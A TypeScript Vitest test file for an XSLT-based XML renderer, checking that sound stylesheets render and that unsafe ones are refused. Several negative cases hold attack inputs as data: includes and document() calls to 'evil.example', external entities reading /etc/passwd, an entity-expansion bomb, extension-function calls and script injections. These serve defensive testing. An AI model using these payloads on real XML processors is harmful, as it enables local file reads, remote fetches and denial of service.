import { describe, expect, it } from "vitest";
import { showXml } from "../../src/documents/xml/xml-rules.js";

const sheet = (body: string, top = "", attributes = "") =>
  `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"${attributes}>${top}${body}</xsl:stylesheet>`;
const template = (body: string) => `<xsl:template match="/"><html><body>${body}</body></html></xsl:template>`;
const saying = (body: string, top = "", attributes = "") => sheet(template(body), top, attributes);

async function shown(xml: string, stylesheet: string): Promise<string> {
  const result = await showXml(xml, stylesheet);
  return "html" in result ? result.html : result.findings.map(({ message }) => message).join("\n");
}

describe("XML that NemID shows", () => {
  const loan =
    '<loan amount="100"><note>a &lt; b &amp; "c" æøå</note><part n="2">two</part><part n="1">one</part></loan>';

  it("is what its stylesheet makes of it", async () => {
    const body =
      '<p>Jeg skylder <xsl:value-of select="loan/@amount"/> kr.</p><xsl:for-each select="loan/part"><xsl:sort select="@n"/>' +
      '<h1 class="{concat(\'n\', @n)}"><xsl:value-of select="."/></h1></xsl:for-each>';
    expect(await shown(loan, saying(body))).toBe(
      '<html><body><p>Jeg skylder 100 kr.</p><h1 class="n1">one</h1><h1 class="n2">two</h1></body></html>',
    );
  });

  it("keeps the text of the document text, whatever it looks like", async () => {
    expect(await shown(loan, saying('<p><xsl:value-of select="loan/note"/></p>'))).toBe(
      '<html><body><p>a &lt; b &amp; "c" æøå</p></body></html>',
    );
    const script = "<loan>&lt;script&gt;alert(1)&lt;/script&gt;</loan>";
    expect(await shown(script, saying('<p class="{loan}"><xsl:value-of select="loan"/></p>'))).toBe(
      '<html><body><p class="&lt;script>alert(1)&lt;/script>">&lt;script&gt;alert(1)&lt;/script&gt;</p></body></html>',
    );
  });

  it.each([
    [
      "a declaration, an output element and comments",
      `<?xml version="1.0"?><!-- x -->${saying("<p>x</p>", '<xsl:output method="xml" omit-xml-declaration="yes" indent="no"/>')}`,
    ],
    [
      "named templates, parameters and choices",
      sheet(
        `${template('<p><xsl:call-template name="t"><xsl:with-param name="a" select="1"/></xsl:call-template></p>')}<xsl:template name="t"><xsl:param name="a"/><xsl:choose><xsl:when test="$a = 1">yes</xsl:when><xsl:otherwise>no</xsl:otherwise></xsl:choose></xsl:template>`,
      ),
    ],
    [
      "functions of XPath and XSLT",
      saying(
        "<p><xsl:value-of select=\"concat(count(//part), format-number(sum(//@n), '0.00'), normalize-space(string(loan)), position(), last())\"/></p>",
      ),
    ],
    ["node tests", saying('<p><xsl:value-of select="//note/text()"/><xsl:copy-of select="//nothing/node()"/></p>')],
    ["a bracket in a text of an expression", saying("<p><xsl:value-of select=\"'document(x)'\"/></p>")],
    [
      "the namespace of the document",
      saying('<p><xsl:value-of select="loan/@amount"/></p>', "", ' xmlns:a="urn:a" exclude-result-prefixes="a"'),
    ],
  ])("through a stylesheet with %s", async (_what, stylesheet) => {
    expect(await shown(loan, stylesheet)).toMatch(/^<html>/);
  });
});

describe("a stylesheet that reaches beyond the document is refused before it runs", () => {
  const bad: Readonly<Record<string, readonly [string, RegExp]>> = {
    "xsl:include": [saying("", '<xsl:include href="http://evil.example/x.xsl"/>'), /loads another \(xsl:include\)/],
    "xsl:import": [saying("", '<xsl:import href="file:///etc/passwd"/>'), /loads another \(xsl:import\)/],
    "document()": [saying("<p><xsl:value-of select=\"document('http://evil.example/')\"/></p>"), /calls document\(\)/],
    "document() with a blank": [saying("<p><xsl:value-of select=\"document ('x')\"/></p>"), /calls document\(\)/],
    "document() deep in an expression": [
      saying("<p><xsl:if test=\"count(/a[document('x')/b]) > 0\">x</xsl:if></p>"),
      /calls document\(\)/,
    ],
    "document() in a pattern": [
      sheet("<xsl:template match=\"/ | document('x')/*\"><html/></xsl:template>"),
      /calls document\(\)/,
    ],
    "document() in the attribute of a result": [saying("<p class=\"{document('x')}\">x</p>"), /calls document\(\)/],
    "document() after a text with a brace": [
      saying("<p class=\"{concat('}', document('x'))}\">x</p>"),
      /calls document\(\)/,
    ],
    "document() in the name of an element": [saying("<xsl:element name=\"{document('x')}\"/>"), /calls document\(\)/],
    "document() in a key": [saying("", '<xsl:key name="k" match="a" use="document(\'x\')"/>'), /calls document\(\)/],
    "document() in a variable": [saying("", '<xsl:variable name="v" select="document(\'x\')"/>'), /calls document\(\)/],
    "unparsed-entity-uri()": [
      saying("<p><xsl:value-of select=\"unparsed-entity-uri('x')\"/></p>"),
      /calls unparsed-entity-uri\(\)/,
    ],
    "system-property()": [
      saying("<p><xsl:value-of select=\"system-property('xsl:vendor')\"/></p>"),
      /calls system-property\(\)/,
    ],
    "an extension function": [
      saying('<p><xsl:value-of select="js:eval(1)"/></p>', "", ' xmlns:js="urn:js"'),
      /calls js:eval\(\)/,
    ],
    "an extension element": [
      saying("<exsl:document href='x'/>", "", ' xmlns:exsl="http://exslt.org/common"'),
      /no extensions are run/,
    ],
    "a script of Microsoft's": [
      saying("", "<msxsl:script xmlns:msxsl='urn:schemas-microsoft-com:xslt'>x</msxsl:script>"),
      /no extensions are run/,
    ],
    "extension-element-prefixes": [
      saying("", "", ' xmlns:x="urn:x" extension-element-prefixes="x"'),
      /names extensions/,
    ],
    "the same on a result": [saying('<p xsl:extension-element-prefixes="x" xmlns:x="urn:x">x</p>'), /names extensions/],
    "an instruction of XSLT 2.0": [saying("<xsl:result-document href='x'/>"), /xsl:result-document is no instruction/],
    "disable-output-escaping": [
      saying('<p><xsl:value-of select="." disable-output-escaping="yes"/></p>'),
      /disable-output-escaping/,
    ],
    "version 2.0": [saying("<p>x</p>").replace('"1.0"', '"2.0"'), /of version "2.0"/],
    "no version": [saying("<p>x</p>").replace(' version="1.0"', ""), /of version ""/],
    "a root that is none": ["<html><body/></html>", /root is not xsl:stylesheet/],
    "an external entity": [
      `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${saying("<p>&e;</p>")}`,
      /the stylesheet cannot be read/,
    ],
    "a processing instruction": [`<?xml-stylesheet href="x"?>${saying("<p>x</p>")}`, /the stylesheet cannot be read/],
    "XML that is none": ["<xsl:stylesheet", /the stylesheet cannot be read/],
    nothing: ["", /the stylesheet cannot be read/],
  };
  it.each(Object.entries(bad))("%s", async (_what, [stylesheet, says]) => {
    expect(await shown("<a/>", stylesheet)).toMatch(says);
  });
});

describe("XML that is not well formed, or more than elements and text, is refused", () => {
  it.each([
    ["text", "hello"],
    ["a tag that is open", "<a>"],
    ["a DOCTYPE", "<!DOCTYPE a><a/>"],
    ["a bomb of entities", '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'],
    ["an external entity", '<!DOCTYPE a [<!ENTITY e SYSTEM "http://evil.example/">]><a>&e;</a>'],
    ["a processing instruction", "<a><?php x ?></a>"],
    ["a CDATA section", "<a><![CDATA[x]]></a>"],
    ["a comment in the middle of a text", "<a>ten<!-- thousand --></a>"],
    ["a prefix without a namespace", "<b:a/>"],
    ["UTF-16", '<?xml version="1.0" encoding="UTF-16"?><a/>'],
  ])("%s", async (_what, xml) => {
    expect(await shown(xml, saying("<p>x</p>"))).toMatch(/the XML cannot be read/);
  });
});

describe("what a stylesheet makes is judged as HTML", () => {
  it.each([
    [
      "an element that is not on the list",
      saying("<script>alert(1)</script>"),
      /shown by the stylesheet: .*no <script>/,
    ],
    ["an attribute that is not", saying('<p onclick="x">x</p>'), /no attribute "onclick"/],
    ["CSS that is not", saying('<p style="background: url(x)">x</p>'), /fetch nothing/],
    [
      "an element with a name from the document",
      sheet('<xsl:template match="/"><html><body><xsl:element name="{name(*)}"/></body></html></xsl:template>'),
      /no <loan>/,
    ],
    [
      "something before html",
      sheet('<xsl:template match="/">x<html><body/></html></xsl:template>'),
      /does not begin with the tag html/,
    ],
    [
      "a blank before html",
      sheet('<xsl:template match="/"><xsl:text> </xsl:text><html><body/></html></xsl:template>'),
      /does not begin with the tag html/,
    ],
    ["no html", sheet('<xsl:template match="/"><p>x</p></xsl:template>'), /does not begin with the tag html/],
    ["nothing", sheet('<xsl:template match="/"/>'), /does not begin with the tag html/],
    ["a comment", saying("<xsl:comment>x</xsl:comment>"), /fails on this document/],
    ["a processing instruction", saying('<xsl:processing-instruction name="x"/>'), /fails on this document/],
  ])("%s", async (_what, stylesheet, says) => {
    expect(await shown("<loan/>", stylesheet)).toMatch(says);
  });
});
